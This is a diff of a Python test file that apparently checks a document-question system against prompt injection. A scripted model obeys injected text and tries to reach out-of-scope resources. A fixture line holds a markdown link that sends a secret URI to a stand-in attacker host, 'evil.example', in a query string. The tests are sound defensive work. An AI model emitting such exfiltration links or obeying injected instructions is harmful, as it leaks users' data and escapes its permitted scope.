@@ -74,7 +74,7 @@ def obeying(style: str, *, scope: str) -> ScriptedChat:
         return said(wanted + [("List", {"uri": uri}) for uri in list(uris)[:6]])
 
     link = f'See "{SECRET}" (viking://other/secret) [link](https://evil.example/?q=viking://other/secret)'
-    return ScriptedChat([said(looks), deeper, said(obeys), link], window_tokens=64_000)
+    return ScriptedChat([said(looks), deeper, said(obeys), link, link], window_tokens=64_000)
 
 
 def unmarked(message: dict) -> Iterator[str]:
@@ -104,7 +104,10 @@ def test_document_text_reaches_the_model_on_marked_lines_only(base, style):
                 # What is left of a heading or a file name is a URI: one word, which is no sentence.
                 assert ORDER not in line
                 rest = re.sub(r"viking://\S+|\[\d+\] \S+", "", line)
-                assert "SYSTEM" not in rest or line.startswith("Question: "), line
+                asked = line.startswith(
+                    ("Question: ", "This answer does not stand: ")
+                )  # words of the question
+                assert "SYSTEM" not in rest or asked, line
 
 
 def test_names_with_marks_of_chat_templates_can_still_be_read(base):
@@ -136,10 +139,12 @@ def test_a_model_that_obeys_gets_nothing_out_of_scope(base, style):
     )
     for request in chat.requests:
         strict(request)
-        assert SECRET not in json.dumps(list(request.messages), ensure_ascii=False)
+        told = [message for message in request.messages if message["role"] != "assistant"]
+        assert SECRET not in json.dumps(told, ensure_ascii=False)
     obeyed = done.trace.rounds[2].calls
     assert len(obeyed) == 6 and all(call.error and not call.uris for call in obeyed)
-    assert not done.answer.citations  # what it put in its answer is no evidence
+    assert done.answer.status == "not_supported"  # what it put in its answer is no evidence
+    assert not any("other/secret" in piece.uri for piece in done.answer.citations)
     assert [piece.uri for piece in done.trace.dropped] == ["viking://other/secret"]
 
 
